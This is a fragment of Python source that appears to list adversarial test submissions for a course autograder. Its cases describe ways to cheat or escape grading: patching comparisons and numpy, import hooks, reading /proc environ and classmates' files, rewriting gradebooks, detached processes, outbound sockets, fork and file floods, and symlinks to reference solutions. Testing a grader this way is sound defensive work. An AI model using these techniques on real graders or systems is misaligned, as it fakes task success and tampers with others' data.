    A("trace-rewrites-locals", "sys.settrace/setprofile make the comparison "
      "helpers compare the expected value with itself",
      TRACE_REWRITES_LOCALS, base="wrong"),
    A("import-hooks", "a sys.meta_path finder and a builtins.__import__ "
      "hook serve a grading module that agrees with everything",
      IMPORT_HOOKS, base="wrong"),
    A("reload-noop", "importlib.reload made a no-op after the helpers were "
      "patched", RELOAD_NOOP, base="wrong"),
    A("numpy-patched", "np.allclose, np.isclose, np.array, np.asarray, "
      "np.testing.* and math.isclose patched to agree", NUMPY_PATCHED),
    A("lying-objects", "answers are objects whose ==, <, float(), "
      "__array__ and shape lie", cells=LYING_CELLS),
    A("ndarray-subclass", "answers are ndarray subclasses of zeros that "
      "claim equality", cells=NDARRAY_CELLS),
    A("nncourse-beside", "a package nncourse/ (grading that agrees, a "
      "remote that says yes) and numpy.py handed in beside the notebook",
      files={"nncourse/__init__.py": FAKE_PACKAGE,
             "nncourse/grading.py": FAKE_GRADING,
             "nncourse/remote.py": FAKE_REMOTE,
             "numpy.py": FAKE_NUMPY}),
    A("nncourse-beside-on-path", "the same, and the notebook puts its own "
      "folder first on sys.path and drops the course's modules",
      PATH_FIRST, files={"nncourse/__init__.py": FAKE_PACKAGE,
                         "nncourse/grading.py": FAKE_GRADING,
                         "nncourse/remote.py": FAKE_REMOTE}),
    A("fake-agent", "nncourse.remote.serve replaced by an agent that probes "
      "the grader with forbidden requests, lies, and shows what it saw",
      FAKE_AGENT, cells={"softmax": FAKE_AGENT_TELLS}),
    A("hidden-args", "the reference answers record every argument of the "
      "tests' calls; a later cell prints them, to stdout, stderr, HTML, "
      "a widget, a display update, a thread and the next input",
      RECORD_ARGS + "@@SOLUTION@@\n"
      "mcculloch_pitts = _recorded(mcculloch_pitts)\n",
      base="solution", cells=RECORDED_CELLS, exact=False,
      marker=ARGS_MARKER),
    A("reads-everything", "walks / and /proc/*/{cwd,root,fd,environ} for "
      "the gradebook, source/, classmates' submitted/ and autograded/, "
      "prints what it finds and fails with it",
      cells=found_cells(READ_EVERYTHING)),
    A("gradebook-writes", "opens every gradebook.db it can find and gives "
      "itself full marks and extra credit", GRADEBOOK_WRITES),
    A("course-edits", "appends to nbgrader_config.py, the notebooks and "
      "gradebooks it finds, chmods and touches them", COURSE_EDITS),
    A("double-fork", "a double-forked, setsid grandchild that edits the "
      "course and gradebooks after its kernel is gone", DOUBLE_FORK),
    A("detached-subprocesses", "subprocesses in new sessions, nohup, one "
      "disguised as a kernel thread, one ignoring SIGTERM",
      DETACHED_SUBPROCESS),
    A("sleeping-editor", "a child that sleeps until grading is over, then "
      "edits gradebooks and course files", SLEEPING_EDITOR),
    A("tcp-sockets", "connects to a listener on 127.0.0.1, to the internet "
      "and to DNS", TCP_SOCKETS),
    A("unix-sockets", "connects to every Unix socket it can find, also "
      "abstract ones", UNIX_SOCKETS),
    A("fork-flood", "forks as often as it can (bounded), then solves",
      FORK_FLOOD, base="solution", exact=False),
    A("file-flood-huge", "writes a 2 GB file in its folder, /tmp and home, "
      "then solves", FILE_FLOOD_HUGE, base="solution", exact=False),
    A("file-flood-many", "writes files as fast as it can for 4 s, then "
      "solves", FILE_FLOOD_MANY, base="solution", exact=False),
    A("symlinks", "hands in symbolic links to the course's gradebook, "
      "config, source/ and a classmate's notebook, and reads them",
      cells=found_cells(READ_LINKS), links=LINKS),
    A("symlinked-notebook-source", "the notebook handed in is a symbolic "
      "link to the instructor's source notebook (reference solution)",
      links={f"{NB01}.ipynb":
             f"../../../source/{NB01}/{NB01}.ipynb"}),
    A("symlinked-notebook-classmate", "the notebook handed in is a "
      "symbolic link to a classmate's", links={
          f"{NB01}.ipynb": f"../../base-solution/{NB01}/{NB01}.ipynb"}),
    A("symlinked-folder", "the submission folder is a symbolic link to a "
      "classmate's", links={"": f"../base-solution/{NB01}"}),
    A("kill-kernel", "correct work in the first two parts, then the kernel "
      "kills itself", base="partial", exact=False,
      cells={"activation": KILL_KERNEL}),
    A("kill-in-hidden-test", "correct work that kills its kernel when a "
      "hidden test calls it", base="solution", exact=False,
      cells={"activation": KILL_IN_A_HIDDEN_TEST}),
    A("hidden-module", "finds nncourse.hh by import, source, site-packages "
      "or a .pyc, answers with it and shows its source",
      assignment=NB02, cells=HIDDEN_MODULE_CELLS),
]
